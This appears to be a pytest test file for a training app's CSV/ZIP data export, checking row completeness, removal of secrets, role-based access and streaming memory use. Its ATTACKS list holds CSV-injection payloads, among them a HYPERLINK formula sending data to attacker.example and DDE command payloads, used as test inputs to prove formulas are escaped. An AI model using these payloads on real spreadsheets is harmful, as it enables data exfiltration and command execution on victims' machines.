"""What is taken out holds every row, no secret and no formula, and needs no more memory for more rows."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
import zipfile
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from sqlalchemy import func, insert, select, text

from trainer.errors import NotAllowed, Refusal, UnknownName
from trainer.records import crews, exports, papers, people
from trainer.records.cells import cell, harmless, lines
from trainer.records.models import PracticeAnswer, Shop
from trainer.records.models.base import Base

# OWASP, CSV Injection (from memory): what a cell must not begin with, and well-known attacks that use it.
ATTACKS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1", "\r=1", "\n=1", " =1+1", "\u00a0=1", "\ufeff=1+1", "\x00=1",
    "=HYPERLINK(\"http://attacker.example?x=\"&A1,\"see\")", "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0", "＝1+1", "＋1", "－1", "＠SUM(1)",
)  # fmt: skip


def entries(data: bytes) -> zipfile.ZipFile:
    return zipfile.ZipFile(io.BytesIO(data))


def rows_of(data: str | bytes) -> list[dict[str, str]]:
    said = data.decode() if isinstance(data, bytes) else data
    return list(csv.DictReader(io.StringIO(said, newline="")))


def whole(shop: Any, now: datetime) -> bytes:
    with shop.store.read() as session:
        return b"".join(exports.archive(session, now))


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_is_a_formula(attack: str) -> None:
    assert harmless(attack) == f"'{attack}"
    back = next(csv.reader(io.StringIO(lines([[attack]]), newline="")))
    assert back == [f"'{attack}"]


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (None, ""), (True, "true"), (False, "false"), (-3, "-3"), (0.1, "0.1"), ("3' 6\"", "3' 6\""), ("", ""),
        (datetime(2026, 11, 25, 13, 40, tzinfo=UTC), "2026-11-25T13:40:00Z"), ({"b": 1, "a": "é"}, '{"a": "é", "b": 1}'),
    ],
)  # fmt: skip
def test_other_values_stay_what_they_are(value: object, shown: str) -> None:
    assert cell(value) == shown


def test_every_table_of_the_store_is_taken_out_or_left_out_on_purpose() -> None:
    taken = [one.of for one in exports.TABLES]
    assert len(taken) == len(set(taken))
    assert set(taken) | exports.LEFT_OUT == set(Base.metadata.tables)
    assert not set(taken) & exports.LEFT_OUT


def test_the_archive_holds_every_row_and_every_file(
    lived: Any,
    shop_people: Any,
    now: datetime,
) -> None:
    with lived.store.write() as session:
        crews.make(session, shop_people.owner, now, name="=North", people=[])
        session.execute(
            insert(PracticeAnswer).values(
                person_id=3, question="q", version=1, seed=1, skills=[], typed="=1+1", shown="2", right=True,
                credit=1.0, slip=None, form_token="p", at=now,
            )
        )  # fmt: skip
        exports.note_taking(session, None, now)
    data = whole(lived, now)
    held = entries(data)
    assert held.testzip() is None
    told = json.loads(held.read("archive.json"))
    with lived.store.read() as session:
        for table in exports.TABLES:
            stored = session.scalar(select(func.count()).select_from(Base.metadata.tables[table.of]))
            found = rows_of(held.read(f"tables/{table.name}.csv"))
            assert len(found) == told["rows"][table.name] == stored, table.name
        counted = {name for name, number in told["rows"].items() if number}
        assert {
            "people",
            "papers",
            "answers",
            "sign-offs",
            "certificates",
            "grants",
            "lessons-read",
        } <= counted
        assert {"suspensions", "history", "files", "crews", "practice"} <= counted
        stored_files = session.connection().execute(text("SELECT id, data FROM stored_file")).all()
    files = [name for name in held.namelist() if name.startswith("files/")]
    assert len(files) == told["files"] == len(stored_files) > 0
    for id, data in stored_files:
        assert held.read(f"files/{id}.jpg") == data
    assert rows_of(held.read("tables/crews.csv"))[-1]["name"] == "'=North"
    assert told["history"]["events"] == told["rows"]["history"]


def test_the_description_names_every_column_in_order(lived: Any, now: datetime) -> None:
    held = entries(whole(lived, now))
    described = json.loads(held.read("csv-metadata.json"))
    assert described["@context"] == "http://www.w3.org/ns/csvw"
    tables = {
        one["url"]: [column["name"] for column in one["tableSchema"]["columns"]]
        for one in described["tables"]
    }
    found = {name for name in held.namelist() if name.endswith(".csv")}
    assert set(tables) == found
    for name in found:
        assert held.read(name).decode().split("\r\n")[0].split(",") == tables[name]
    readme = held.read("README.txt").decode()
    assert all(name in readme for name in found)


def test_no_secret_is_in_the_archive(lived: Any, now: datetime) -> None:
    held = entries(whole(lived, now))
    everything = b"".join(held.read(name) for name in held.namelist() if not name.startswith("files/"))
    with lived.store.read() as session:
        secrets = {session.get_one(Shop, 1).secret}
        for column in ("password_hash", "session_stamp"):
            secrets |= every(session, column, "person")
        secrets |= every(session, "code_hash", "entry_code")
        for table in ("quiz", "answer", "comment", "certificate", "sign_off"):
            secrets |= every(session, "form_token", table)
    secrets -= {None, "token"}
    assert len(secrets) > 5
    columns = {
        column["name"]
        for one in json.loads(held.read("csv-metadata.json"))["tables"]
        for column in one["tableSchema"]["columns"]
    }
    assert not columns & {"password_hash", "session_stamp", "code_hash", "form_token", "secret", "key_hash"}
    assert not [secret for secret in secrets if len(secret) > 12 and secret.encode() in everything]


def every(session: Any, column: str, table: str) -> set[str]:
    return set(session.connection().execute(text(f"SELECT {column} FROM {table}")).scalars())


def table_of(shop: Any, who: Any, name: str) -> list[dict[str, str]]:
    with shop.store.read() as session:
        return rows_of("".join(exports.csv_lines(session, who, name)))


def test_papers_carry_the_score_that_holds(lived: Any, shop_people: Any) -> None:
    first = table_of(lived, shop_people.owner, "papers")[0]
    found = (first["person"], first["quiz_id"], first["questions"], first["percent"], first["passed"])
    assert found == ("Ana B. Abel", "1", "2", "87", "true")  # 0.75 after the second change, and 1, of 2


@pytest.mark.parametrize("name", [one.name for one in exports.TABLES if one.owner and not one.alone])
def test_what_is_the_owners_is_for_no_trainer(shop: Any, shop_people: Any, name: str) -> None:
    with shop.store.read() as session:
        assert list(exports.csv_lines(session, shop_people.owner, name))
        with pytest.raises(NotAllowed):
            exports.csv_lines(session, shop_people.trainer, name)


def test_a_new_hire_takes_nothing_and_nobody_the_right_answers(shop: Any, shop_people: Any) -> None:
    with shop.store.read() as session:
        for one in exports.TABLES:
            with pytest.raises((NotAllowed, UnknownName)):
                exports.csv_lines(session, shop_people.apprentice, one.name)
        for name in ("drawn-questions", "person", "entry_code", "no such"):
            with pytest.raises(UnknownName):
                exports.csv_lines(session, shop_people.owner, name)


def test_grades_of_a_paper_still_out_are_left_empty(shop: Any, shop_people: Any, now: datetime) -> None:
    paper = shop.assign(shop_people.trainer, shop_people.apprentice, questions=("slope-0", "slope-1")).papers[
        0
    ]
    shop.answer(shop_people.apprentice, paper, 1, "3")
    (row,) = table_of(shop, shop_people.trainer, "answers")
    assert (row["typed"], row["right"], row["credit"], row["slip"]) == ("3", "", "", "")
    with shop.store.write() as session:
        papers.hand_in(session, shop_people.apprentice, now, paper)
    (row,) = table_of(shop, shop_people.trainer, "answers")
    assert row["right"] in ("true", "false") and row["credit"]


def test_whoever_has_a_quiz_to_sit_sees_no_answers_to_it(shop: Any, shop_people: Any, now: datetime) -> None:
    owner, trainer, ana = shop_people.owner, shop_people.trainer, shop_people.apprentice
    with shop.store.write() as session:
        people.change_roles(session, owner, now, trainer.id, ["trainer", "apprentice"])
    quiz = shop.assign(owner, ana, trainer, questions=("slope-0",))
    shop.answer_all(ana, quiz.papers[0])
    assert len(table_of(shop, owner, "answers")) == 1
    assert table_of(shop, trainer, "answers") == table_of(shop, trainer, "papers") == []
    shop.answer_all(trainer, quiz.papers[1])
    assert len(table_of(shop, trainer, "answers")) == 2


def test_an_owner_with_a_paper_to_sit_takes_no_archive(shop: Any, shop_people: Any, now: datetime) -> None:
    owner, trainer = shop_people.owner, shop_people.trainer
    with shop.store.write() as session:
        people.change_roles(session, owner, now, owner.id, ["owner", "apprentice"])
    shop.assign(trainer, owner)
    with (
        shop.store.write() as session,
        pytest.raises(
            Refusal, match=r"you have “.*” still to sit: hand in your own first, or have another owner"
        ),
    ):
        exports.note_taking(session, owner, now)
    with shop.store.write() as session, pytest.raises(NotAllowed):
        exports.note_taking(session, trainer, now)


def test_a_large_table_needs_no_more_memory_than_a_small_one(
    shop: Any, shop_people: Any, now: datetime
) -> None:
    """30,000 rows take hardly more than 1,000 on the way out: they are never held together."""

    def peak() -> int:
        with shop.store.read() as session:
            tracemalloc.start()
            size = sum(len(piece) for piece in exports.csv_lines(session, shop_people.owner, "practice"))
            most = tracemalloc.get_traced_memory()[1]
            tracemalloc.stop()
        sizes.append(size)
        return most

    sizes: list[int] = []
    add_practice(shop, shop_people, now, range(1000))
    peak()  # what is only made once
    few = peak()
    add_practice(shop, shop_people, now, range(1000, 30000))
    many = peak()
    assert sizes[-1] > 20 * sizes[-2] and sizes[-1] > 2_000_000
    assert many < 1.5 * few and many < sizes[-1], (few, many, sizes)


def add_practice(shop: Any, shop_people: Any, now: datetime, numbers: range) -> None:
    with shop.store.write() as session:
        session.execute(
            insert(PracticeAnswer),
            [
                {
                    "person_id": shop_people.apprentice.id, "question": "slope-0", "version": 1, "seed": n,
                    "skills": ["roof-slope"], "typed": "3", "shown": "3 in", "right": True, "credit": 1.0,
                    "slip": None, "form_token": f"practice {n}", "at": now + timedelta(seconds=n),
                }
                for n in numbers
            ],
        )  # fmt: skip
